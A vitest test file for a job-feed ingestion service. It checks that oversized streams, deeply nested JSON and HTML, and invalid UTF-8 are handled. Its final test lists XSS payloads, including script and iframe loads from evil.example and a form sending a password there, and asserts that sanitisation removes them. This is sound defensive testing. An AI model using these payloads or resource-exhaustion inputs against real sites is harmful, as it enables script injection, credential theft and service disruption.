import { Readable } from 'node:stream'
import { pipeline } from 'node:stream/promises'
import type { ServerResponse } from 'node:http'
import { createGzip } from 'node:zlib'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { makeApp } from '#kit/make-app.ts'
import type { TestApp, TestUser } from '#kit/make-app.ts'
import { peakWhile } from '#kit/peak.ts'
import { startRawFeed } from '#kit/raw-feed.ts'
import type { RawFeed } from '#kit/raw-feed.ts'

const HUGE = 500_000_000
/** The cap of a feed is 40 MB; it is held twice while its pieces are joined, and Node gives memory back late. */
const MOST_MB = 250

let feed: RawFeed
let app: TestApp
let mara: TestUser

beforeAll(async () => {
  feed = await startRawFeed()
  app = await makeApp({ OUTBOUND_REWRITE: JSON.stringify({ 'https://www.arbeitnow.com': feed.origin }) })
  mara = await app.register()
  serve([rowOf(1), rowOf(2)])
  await mara.request('PATCH', '/sources/arbeitnow', { body: { enabled: true } })
  await app.ctx.queue.drain()
})
afterAll(async () => {
  await app.close()
  await feed.close()
})

const rowOf = (n: number, change: Record<string, unknown> = {}) => ({
  ...{
    slug: `row-${n}`,
    company_name: `Example ${n} GmbH`,
    title: `Baker ${n}`,
    description: '<p>You bake bread.</p>',
  },
  ...{ remote: false, url: `https://www.arbeitnow.com/jobs/row-${n}`, tags: [], job_types: [], location: 'Berlin' },
  ...{ created_at: 1_760_000_000, ...change },
})
const envelope = (rows: readonly unknown[]) => JSON.stringify({ data: rows, links: { next: null }, meta: {} })
const send = (body: string | Buffer) => {
  feed.answer = (response) => void response.writeHead(200, { 'content-type': 'application/json' }).end(body)
}
const serve = (rows: readonly unknown[]) => send(envelope(rows))
const run = async () => {
  app.time.advance(86_400_000)
  mara = await app.login(mara)
  const { body } = await mara.request('POST', '/sources/arbeitnow/run')
  await app.ctx.queue.drain()
  return (await mara.request('GET', `/sources/runs/${body.run_id}`)).body
}
const titles = () =>
  app
    .rows<{ title: string }>(
      `SELECT title FROM postings WHERE 'arbeitnow' = ANY(source_ids) AND closed_at IS NULL ORDER BY 1`,
    )
    .then((rows) => rows.map(({ title }) => title))

/** 500 MB of rows that never end, as fast as they are taken; gives how many bytes went out. */
function endless(wrap: (body: Readable, response: ServerResponse) => Promise<void>) {
  const sent = { bytes: 0 }
  const megabyte = Buffer.from(`${JSON.stringify(rowOf(1))},`.repeat(4_000))
  feed.answer = (response) => {
    const pieces = function* () {
      yield Buffer.from('{"data":[')
      for (sent.bytes = 0; sent.bytes < HUGE; sent.bytes += megabyte.length) yield megabyte
    }
    // That the other side hangs up is what it is about.
    void wrap(Readable.from(pieces()), response).catch(() => {})
  }
  return sent
}

test.each([
  ['in pieces', {}, (body: Readable, response: ServerResponse) => pipeline(body, response)],
  [
    'with its length announced',
    { 'content-length': String(HUGE) },
    (body: Readable, response: ServerResponse) => pipeline(body, response),
  ],
  [
    'packed into two',
    { 'content-encoding': 'gzip' },
    (body: Readable, response: ServerResponse) => pipeline(body, createGzip({ level: 1 }), response),
  ],
])('a feed of 500 MB %s is given up at the cap, and says so', async (_how, headers, wrap) => {
  const before = await titles()
  const sent = endless((body, response) => {
    response.writeHead(200, { 'content-type': 'application/json', ...headers })
    return wrap(body, response)
  })
  let ended: Record<string, unknown> = {}
  const { grew_mb } = await peakWhile(async () => {
    ended = await run()
  })
  expect(ended).toMatchObject({
    status: 'failed',
    outcome: 'too_large',
    seen: 0,
    closed: 0,
    message: expect.stringMatching(/\S/),
  })
  // Packed, all of it fits into what lies on the way.
  if (!('content-encoding' in headers)) expect(sent.bytes).toBeLessThan(HUGE / 4)
  expect(grew_mb).toBeLessThan(MOST_MB)
  expect((await mara.request('GET', '/sources/arbeitnow')).body).toMatchObject({
    health: 'failing',
    postings: before.length,
  })
  expect(await titles()).toEqual(before)
})

const nested = (levels: number, inner: unknown = 'x'): unknown =>
  Array.from({ length: levels }).reduce<unknown>((within) => ({ a: [within] }), inner)

test('ten levels of nesting where nothing is read are no matter, where a text is due cost that row, and around all it is another shape', async () => {
  serve([rowOf(1, { more: nested(10) }), rowOf(2, { location: nested(10) }), rowOf(3, { tags: nested(10) }), rowOf(4)])
  expect(await run()).toMatchObject({ status: 'done', outcome: 'ok', seen: 2, rejected: 2 })
  expect(await titles()).toEqual(['Baker 1', 'Baker 2', 'Baker 4'])
  send(JSON.stringify(nested(10, { data: [rowOf(5)] })))
  expect(await run()).toMatchObject({ status: 'failed', outcome: 'schema_drift', closed: 0 })
  expect(await titles()).toEqual(['Baker 1', 'Baker 2', 'Baker 4'])
})

test.each([
  ['brackets', '['.repeat(200_000)],
  ['brackets that close', `${'['.repeat(200_000)}${']'.repeat(200_000)}`],
  ['a field', envelope([rowOf(1, { more: '@' })]).replace('"@"', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`)],
])('nesting without end (%s) ends the run in words, and nothing else', async (_what, body) => {
  const before = await titles()
  send(body)
  const ended = await run()
  expect(['done', 'failed']).toContain(ended.status)
  if (ended.status === 'failed')
    expect(ended).toMatchObject({ outcome: expect.not.stringMatching('stopped'), closed: 0 })
  expect(await titles()).toEqual(before)
})

test('elements ten deep in a description are read, ten thousand deep as far as they make sense', async () => {
  const deep = (levels: number) => `${'<div>'.repeat(levels)}You bake${'</div>'.repeat(levels)}`
  serve([rowOf(1, { description: deep(10) }), rowOf(2, { description: `<p>Read this</p>${deep(10_000)}` }), rowOf(4)])
  expect(await run()).toMatchObject({ status: 'done', outcome: 'ok', seen: 3 })
  const texts = await app.rows(
    `SELECT description_text AS text FROM postings WHERE title IN ('Baker 1', 'Baker 2') ORDER BY title`,
  )
  expect(texts).toEqual([{ text: 'You bake' }, { text: expect.stringMatching(/^Read this/) }])
})

test('bytes that are no UTF-8 become signs that say so, and the rows beside them are whole', async () => {
  const odd = (n: number, ...bytes: number[]) => {
    const [before = '', after = ''] = JSON.stringify(
      rowOf(n, { title: `B@cker ${n}`, description: `<p>G@</p>` }),
    ).split('@cker')
    return Buffer.concat([
      Buffer.from(before),
      Buffer.from(bytes),
      Buffer.from(`cker${after.replace('@', '\\u0000\\ud800')}`),
    ])
  }
  const rows = [odd(1, 0xe4), odd(2, 0xc0, 0xaf), odd(3, 0xed, 0xa0, 0x80), odd(4, 0xff, 0xfe), odd(6, 0xc3, 0xa4)]
  const body = Buffer.concat([
    Buffer.from('{"data":['),
    ...rows.flatMap((row) => [row, Buffer.from(',')]),
    Buffer.from(`${JSON.stringify(rowOf(5, { location: 'äöüß'.repeat(10) }))}],"links":{"next":null},"meta":{}}`),
  ])
  send(body)
  expect(await run()).toMatchObject({ status: 'done', outcome: 'ok', seen: 6, rejected: 0 })
  const found = await titles()
  expect(found.filter((title) => /^B\uFFFD+cker [1-4]$/.test(title))).toHaveLength(4)
  expect(found).toEqual(expect.arrayContaining(['Baker 5', 'Bäcker 6']))
  const [{ total } = { total: 0 }] = [(await mara.request('GET', '/jobs')).body]
  expect(total).toBe(found.length)
})

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(2)</script></svg>',
  '<a href="javascript:alert(1)">apply</a>',
  '<a href=" jav&#x09;ascript:alert(1)">apply</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="https://evil.example"><input name=password></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=x>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css"</style><p style="background:url(https://evil.example/p.gif)">p</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

test('scripts, frames and what acts like them do not get out of a description', async () => {
  serve(HOSTILE.map((bad, n) => rowOf(n + 1, { description: `<p>Before ${n}</p>${bad}<p>After</p>` })))
  expect(await run()).toMatchObject({ status: 'done', seen: HOSTILE.length, rejected: 0 })
  const { items } = (await mara.request('GET', '/jobs', { query: { limit: 100 } })).body
  const shown = await Promise.all(
    items.map(async ({ id }: { id: string }) => (await mara.request('GET', `/jobs/${id}`)).body),
  )
  const html = shown.map((job) => job.description_html).filter((text) => /Before \d/.test(text))
  expect(html).toHaveLength(HOSTILE.length)
  for (const text of html) {
    expect(text).not.toMatch(/<\s*(script|iframe|svg|math|form|input|object|embed|meta|base|style|img|noscript)\b/i)
    expect(text).not.toMatch(/<[^>]*\s(on\w+|style|srcdoc)\s*=/i)
    expect(text).not.toMatch(/<[^>]*(javascript|data):/i)
  }
})
